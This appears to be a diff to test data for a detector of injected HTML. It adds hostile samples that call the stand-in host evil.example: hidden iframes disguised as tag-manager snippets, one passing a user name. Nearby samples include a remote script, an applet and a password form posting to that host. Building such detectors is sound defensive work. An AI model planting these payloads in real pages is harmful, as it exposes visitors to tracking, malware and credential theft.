@@ -261,6 +261,9 @@ HONEST = {
         '<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-XXXX" '
         'style="display:none"></iframe></noscript>'
     ),
+    "tags, by a host of the page's own": (
+        '<noscript><iframe src="https://tags.tea.example/ns.html?id=GTM-XXXX" width="0" height=0></iframe></noscript>'
+    ),
     "script": "<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}</script>",
     "tracking": (
         "<script>var _paq=[];(function(){var u='https://stats.example.org/';_paq.push(['setUrl',u+'"
@@ -393,6 +396,11 @@ STRANGERS = {
     "script": '<script src="https://evil.example/x.js"></script>',
     "frame": '<iframe src="https://evil.example/x" width="0" height="0"></iframe>',
     "frame, not displayed": '<iframe src="//evil.example/x" style="display:none"></iframe>',
+    "frame that plays a tag manager": '<iframe src="https://evil.example/ns.html?id=GTM-AB12" width="0"></iframe>',
+    "frame of a tag manager with more to say": (
+        '<noscript><iframe src="https://evil.example/ns.html?id=GTM-AB12&u=anna" width="0"></iframe></noscript>'
+    ),
+    "frame of another page": '<noscript><iframe src="//evil.example/n.html?id=GTM-AB12" width="0"></iframe></noscript>',
     "object": '<object data="//evil.example/x.swf"></object>',
     "applet": '<applet code="X.class" archive="https://evil.example/x.jar"></applet>',
     "form": '<form action="https://evil.example/x"><input type=password></form>',
